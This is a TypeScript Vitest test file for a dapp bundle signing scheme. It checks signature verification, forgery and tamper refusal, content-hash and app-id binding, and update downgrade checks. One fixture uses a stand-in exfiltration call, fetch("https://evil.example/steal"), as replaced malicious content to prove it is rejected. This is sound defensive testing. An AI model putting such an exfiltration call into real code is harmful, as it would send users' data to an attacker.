import { describe, expect, it } from 'vitest';
import { fromHex, toHex, utf8 } from '../../base';
import { generatePrivateKey, publicKeyOf, signHash, verifyHash } from '../../crypto';
import { buildBundle, bundleDirectory } from './bundle';
import { encodeContainer, openContainer } from './container';
import { isPackageError, type PackageRefusal } from './errors';
import { appIdHex } from './manifest';
import { keySigner, signContainer, signingDigest, verifyBundle, verifyUpdate } from './sign';
import { appFiles, HELLO_DIR, manifestFile, manifestFor, SAMPLE_AUTHOR_PRIVATE } from './test-support';

const AUTHOR = SAMPLE_AUTHOR_PRIVATE;
const m = manifestFor(AUTHOR);

async function reasonOf(fn: () => unknown): Promise<PackageRefusal | 'accepted'> {
  try {
    await fn();
    return 'accepted';
  } catch (e) {
    if (isPackageError(e)) return e.reason;
    throw e;
  }
}

async function signed(files = appFiles(m), key = AUTHOR) {
  return (await signContainer(encodeContainer(buildBundle(files)), keySigner(key))).bytes;
}

describe('author signature', () => {
  it('signs the sample hello dapp with the devnet sample author key and verifies it', async () => {
    const b = await bundleDirectory(HELLO_DIR);
    const { bytes, record } = await signContainer(encodeContainer(b), keySigner(AUTHOR));
    const v = verifyBundle(bytes, { contentHash: `0x${toHex(b.contentHash)}`, authorKey: b.manifest.author, appId: b.manifest.appId });
    expect(v.manifest.appId).toBe(appIdHex(b.manifest.author, 'Hello'));
    expect(toHex(v.signature.authorKey)).toBe(b.manifest.author.slice(2));
    // the signature is the plain secp256k1 signature of the documented digest
    const digest = signingDigest(b.contentHash, fromHex(b.manifest.appId), '0.1.0');
    expect(verifyHash(digest, record.signature, publicKeyOf(AUTHOR))).toBe(true);
    // signing is deterministic (RFC 6979) and re-signing replaces, never stacks
    const again = await signContainer(bytes, keySigner(AUTHOR));
    expect(toHex(again.bytes)).toBe(toHex(bytes));
  });

  it('binds the digest to the content, the app id and the version', () => {
    const h = new Uint8Array(32).fill(1);
    const id = new Uint8Array(20).fill(2);
    const d = toHex(signingDigest(h, id, '1.0.0'));
    expect(toHex(signingDigest(new Uint8Array(32).fill(3), id, '1.0.0'))).not.toBe(d);
    expect(toHex(signingDigest(h, new Uint8Array(20).fill(3), '1.0.0'))).not.toBe(d);
    expect(toHex(signingDigest(h, id, '1.0.1'))).not.toBe(d);
  });

  it('refuses an unsigned bundle', async () => {
    expect(await reasonOf(() => verifyBundle(encodeContainer(buildBundle(appFiles(m)))))).toBe('UNSIGNED');
  });

  it('refuses a wrong signature (altered s, flipped recovery id)', async () => {
    const bud = await signed();
    const bad = bud.slice();
    bad[bad.length - 20] = bad[bad.length - 20]! ^ 0x40; // inside s
    expect(await reasonOf(() => verifyBundle(bad))).toBe('BAD_SIGNATURE');
    const flippedV = bud.slice();
    flippedV[flippedV.length - 1] = flippedV[flippedV.length - 1]! ^ 1;
    expect(await reasonOf(() => verifyBundle(flippedV))).toBe('BAD_SIGNATURE');
  });

  it('refuses another key: signing with it, and a bundle signed by it under the author’s manifest', async () => {
    const mallory = generatePrivateKey();
    const bud = encodeContainer(buildBundle(appFiles(m)));
    expect(await reasonOf(() => signContainer(bud, keySigner(mallory)))).toBe('SIGNER_MISMATCH');
    // Mallory builds the signature record herself: a valid signature, but by her key
    const b = openContainer(bud);
    const digest = signingDigest(b.contentHash, fromHex(m.appId), m.version);
    const forged = encodeContainer(b, { contentHash: b.contentHash, authorKey: publicKeyOf(mallory), signature: signHash(digest, mallory) });
    expect(await reasonOf(() => verifyBundle(forged))).toBe('SIGNER_MISMATCH');
    // and a bundle really by the author, listed with someone else's key
    const real = await signed();
    expect(await reasonOf(() => verifyBundle(real, { authorKey: `0x${toHex(publicKeyOf(mallory))}` }))).toBe('SIGNER_MISMATCH');
  });

  it('refuses replaced content: the author’s signature moved onto other files', async () => {
    const original = openContainer(await signed());
    const replaced = buildBundle(appFiles(m, 'fetch("https://evil.example/steal")'));
    const moved = encodeContainer(replaced, original.signature);
    expect(await reasonOf(() => verifyBundle(moved))).toBe('CONTENT_MISMATCH');
    // or re-signed by Mallory under her own key: the manifest still names the author, and
    // naming herself changes the app id, which the manifest check or the listing refuses
    const mallory = generatePrivateKey();
    expect(await reasonOf(() => signContainer(encodeContainer(replaced), keySigner(mallory)))).toBe('SIGNER_MISMATCH');
    const asMallory = manifestFor(mallory, { name: m.name });
    const files = [...appFiles(m, 'steal()').filter((f) => f.path !== 'manifest.json'), manifestFile({ ...asMallory, appId: m.appId })];
    expect(await reasonOf(() => buildBundle(files))).toBe('MANIFEST_INVALID');
    const hers = await signed([...appFiles(asMallory, 'steal()')], mallory);
    expect(await reasonOf(() => verifyBundle(hers))).toBe('accepted'); // a valid app — but a different one
    expect(await reasonOf(() => verifyBundle(hers, { appId: m.appId }))).toBe('APP_ID_CHANGED');
    // the registry lists a content hash: any other content is refused before the signature is looked at
    const listed = `0x${toHex(original.contentHash)}`;
    expect(await reasonOf(() => verifyBundle(hers, { contentHash: listed }))).toBe('CONTENT_MISMATCH');
  });

  it('refuses a signed bundle with a tampered chunk', async () => {
    const bud = await signed();
    const t = bud.slice();
    t[t.length - 135 - 5] = t[t.length - 135 - 5]! ^ 1; // the last content byte, just before the signature section
    expect(await reasonOf(() => verifyBundle(t))).toBe('CHUNK_MISMATCH');
  });

  it('checks an update: same app, same author, strictly newer; reports permission changes', () => {
    const installed = manifestFor(AUTHOR, { version: '1.2.0', permissions: ['accounts', 'storage'] });
    const next = { ...installed, version: '1.10.0', permissions: ['accounts', 'transact', 'p2p-channel'] as typeof installed.permissions };
    expect(verifyUpdate(installed, next)).toEqual({ added: ['transact', 'p2p-channel'], removed: ['storage'] });
    const reason = (c: typeof installed) => {
      try {
        verifyUpdate(installed, c);
        return 'accepted';
      } catch (e) {
        return isPackageError(e) ? e.reason : 'other';
      }
    };
    expect(reason({ ...installed, version: '1.1.9' })).toBe('DOWNGRADE');
    expect(reason({ ...installed, version: '0.9.0' })).toBe('DOWNGRADE');
    expect(reason({ ...installed })).toBe('NOT_NEWER');
    const other = manifestFor(generatePrivateKey(), { name: installed.name, version: '2.0.0' });
    expect(reason(other)).toBe('APP_ID_CHANGED');
    expect(reason({ ...other, appId: installed.appId })).toBe('AUTHOR_CHANGED');
    expect(reason(manifestFor(AUTHOR, { name: 'Renamed', version: '2.0.0' }))).toBe('APP_ID_CHANGED');
  });

  it('a signature is refused on a bundle of another version of the same app', async () => {
    const v1 = openContainer(await signed());
    const v2 = buildBundle(appFiles({ ...m, version: '1.0.1' }));
    expect(await reasonOf(() => verifyBundle(encodeContainer(v2, { ...v1.signature!, contentHash: v2.contentHash })))).toBe('BAD_SIGNATURE');
    expect(utf8(m.version)).toHaveLength(5);
  });
});
